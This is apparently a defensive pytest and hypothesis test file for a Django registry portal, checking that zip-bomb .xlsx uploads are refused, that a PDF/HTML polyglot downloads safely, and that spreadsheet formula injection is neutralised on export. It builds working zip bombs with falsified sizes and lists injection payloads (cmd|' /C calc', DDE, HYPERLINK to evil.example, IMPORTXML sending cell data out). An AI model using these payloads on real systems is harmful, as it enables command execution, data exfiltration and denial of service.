"""Crafted files: an .xlsx that is a zip bomb (as a roster and as evidence), a
polyglot PDF (accepted as a PDF only because its download is an attachment,
nosniff, sandboxed), and formula injection (=cmd|…, +, -, @) imported in a
roster and exported again: in the .xlsx every such cell is a string cell
showing exactly what was typed, in the CSV it carries a leading apostrophe
(core.spreadsheets)."""
from __future__ import annotations

import csv
import io
import struct
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.spreadsheets import looks_like_formula
from institutions.models import FilingDocument, Institution
from progress.models import ReportFile
from tests.factories import credit_code

from .helpers import CJK, form_errors, refused_unchanged, rolled_back, signed_in, table_counts
from .strategies import plain_text

pytestmark = pytest.mark.django_db

ROSTER_RECORD = ("institutions.rosterimport",)
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _bomb(*, unpacked_mb: int = 60, lie: bool = False) -> bytes:
    """An .xlsx-looking zip whose sheet inflates to `unpacked_mb` MB of nothing.
    `lie`: the directory claims the sheet is tiny (a bomb that hides its size)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as sheet:
            chunk = b"<c>0</c>" * (1024 * 128)
            for _ in range(unpacked_mb):
                sheet.write(chunk)
    data = bytearray(buffer.getvalue())
    if lie:
        _shrink_declared_sizes(data, b"xl/worksheets/sheet1.xml", 4096)
    return bytes(data)


def _shrink_declared_sizes(data: bytearray, name: bytes, size: int) -> None:
    """Rewrite the uncompressed size of `name` in its local header and central directory entry."""
    at = 0
    while (at := data.find(b"PK\x03\x04", at)) != -1:
        name_len = struct.unpack_from("<H", data, at + 26)[0]
        if data[at + 30: at + 30 + name_len] == name:
            struct.pack_into("<I", data, at + 22, size)
        at += 4
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) != -1:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46: at + 46 + name_len] == name:
            struct.pack_into("<I", data, at + 24, size)
        at += 4


@pytest.mark.parametrize("lie", [False, True], ids=["honest-sizes", "lying-sizes"])
def test_zip_bomb_as_roster(registry_world, tried, lie):
    tried()
    client = signed_in(registry_world.registrar)
    bomb = _bomb(lie=lie)
    assert len(bomb) < 1024 * 1024  # under a megabyte on the wire

    def case():
        before = table_counts(exclude=ROSTER_RECORD)
        response = client.post(reverse("institutions:roster-import"), {"file": SimpleUploadedFile("名册.xlsx", bomb)})
        assert response.status_code == 200
        report = response.context.get("report")
        message = report.file_error if report is not None else "；".join(
            m for ms in form_errors(response).values() for m in ms)
        assert CJK.search(message) and ("压缩炸弹" in message or "Excel" in message), message
        refused_unchanged(before, exclude=ROSTER_RECORD)

    rolled_back(client, case)


@pytest.mark.parametrize("lie", [False, True], ids=["honest-sizes", "lying-sizes"])
def test_zip_bomb_as_evidence(progress_world, tried, lie):
    """Evidence is never unpacked by the portal; a bomb is still refused, so no reviewer opens one."""
    tried()
    world = progress_world
    client = signed_in(world.officer)
    url = reverse("progress:report-create", args=[world.assignment.pk, 2026, 11])

    def case():
        before = table_counts()
        response = client.post(url, {"progress": "本月进展。", "percent": "10",
                                     "evidence": SimpleUploadedFile("统计表.xlsx", _bomb(lie=lie))})
        assert response.status_code == 200
        errors = form_errors(response)
        assert "evidence" in errors and all(CJK.search(m) for m in errors["evidence"]), errors
        refused_unchanged(before)

    rolled_back(client, case)


POLYGLOT = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<html><head><script>alert(document.cookie)</script></head>"
    b"<body onload=alert(1)>x</body></html>\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
)


def _assert_safe_download(response, *, name: str):
    body = b"".join(response.streaming_content)
    assert response.status_code == 200 and body == POLYGLOT
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert name.encode("utf-8") in response["Content-Disposition"].encode("utf-8") or "filename*=" in response[
        "Content-Disposition"]


def test_polyglot_pdf_as_evidence(progress_world, tried):
    tried()
    world = progress_world
    client = signed_in(world.officer)
    upload = SimpleUploadedFile("佐证.pdf", POLYGLOT, content_type="text/html")  # the browser's claim is ignored
    response = client.post(reverse("progress:report-create", args=[world.assignment.pk, 2026, 11]),
                           {"progress": "本月进展。", "percent": "10", "evidence": upload})
    assert response.status_code == 302
    stored = ReportFile.objects.get(report__period__start="2026-11-01", report__assignment=world.assignment)
    assert stored.content_type == "application/pdf" and not stored.file.name.endswith(".html")
    for reader in (world.officer, world.leader):
        _assert_safe_download(signed_in(reader).get(reverse("progress:report-file", args=[stored.pk])), name="佐证.pdf")
    # As anything but .pdf it is refused: the name must agree with the content.
    for name in ("佐证.html", "佐证.svg", "佐证.pdf.html"):
        tried()
        before = table_counts()
        response = client.post(reverse("progress:report-edit", args=[world.draft.pk]),
                               {"progress": "x", "percent": "1", "evidence": SimpleUploadedFile(name, POLYGLOT)})
        assert response.status_code == 200 and "evidence" in form_errors(response)
        refused_unchanged(before)


def test_polyglot_pdf_as_filing_material(registry_world, tried):
    tried()
    world = registry_world
    client = signed_in(world.operator)
    response = client.post(reverse("institutions:document-upload", args=[world.filing.pk]),
                           {"kind": "other", "file": SimpleUploadedFile("其他材料.pdf", POLYGLOT, "text/html")})
    assert response.status_code == 302
    document = FilingDocument.objects.filter(filing=world.filing).latest("pk")
    assert document.content_type == "application/pdf"
    for reader in (world.operator, world.coordinator):
        response = signed_in(reader).get(reverse("institutions:document-download", args=[document.pk]))
        _assert_safe_download(response, name="其他材料.pdf")


# ---------------------------------------------------------------- formula injection, imported then exported

formula = st.tuples(
    st.sampled_from(["=", "+", "-", "@", "\t=", "\r=", " =", "=="]),
    st.sampled_from(["cmd|' /C calc'!A0", "SUM(A1:A9)", "HYPERLINK(\"http://evil.example\",\"点我\")", "1+1", "2+3",
                     "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"!A0\")"]),
    plain_text,
).map(lambda t: t[0] + t[1] + t[2].replace("\r", "").replace("\n", ""))


def _roster_csv(rows) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["机构名称", "统一社会信用代码", "机构性质", "法人类型", "所属街道", "地址", "联系人", "联系电话",
                     "法定代表人/负责人"])
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


_codes = iter(range(700_000, 9_000_000))


def _exported_cells(client, file_format: str) -> list[tuple]:
    response = client.get(reverse("institutions:roster-export"), {"format": file_format})
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    if file_format == "csv":
        return [tuple(row) for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row), "a cell exported as a formula"
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.data_too_large])
@given(cells=st.lists(st.tuples(formula, formula, formula, formula, formula), min_size=1, max_size=3))
def test_formula_injection_is_neutralised_on_export(registry_world, tried, cells):
    tried()
    world = registry_world
    client = signed_in(world.registrar)
    rows = [[name, credit_code(next(_codes)), "营利性", "企业", "解放碑街道", address, contact, phone, boss]
            for name, address, contact, phone, boss in cells]

    def case():
        preview = client.post(reverse("institutions:roster-import"),
                              {"file": SimpleUploadedFile("名册.csv", _roster_csv(rows))})
        report = preview.context["report"]
        if not report.ok:  # e.g. a phone number longer than its column: refused by row, nothing saved
            event("refused")
            assert all(str(p).startswith("第") for p in report.problems) or report.file_error
            return
        event("imported")
        confirm = client.post(reverse("institutions:roster-import"), {"roster": preview.context["roster"].pk})
        assert confirm.status_code == 302
        stored = set(Institution.objects.values_list("name", flat=True))
        typed = {name.strip() for name, *_ in cells}
        assert typed <= stored  # stored as typed (a cell's surrounding blanks trimmed)
        exported = _exported_cells(client, "csv")
        for row in exported[1:]:
            for value in row:
                assert not looks_like_formula(value), value
        flat = {v for row in exported[1:] for v in row}
        for name in typed:
            assert ("'" + name if looks_like_formula(name) else name) in flat, name
        # The .xlsx: no formula cell (checked in _exported_cells), and the names as typed.
        flat = {v for row in _exported_cells(client, "xlsx")[1:] for v in row if isinstance(v, str)}
        assert typed <= flat

    rolled_back(client, case)
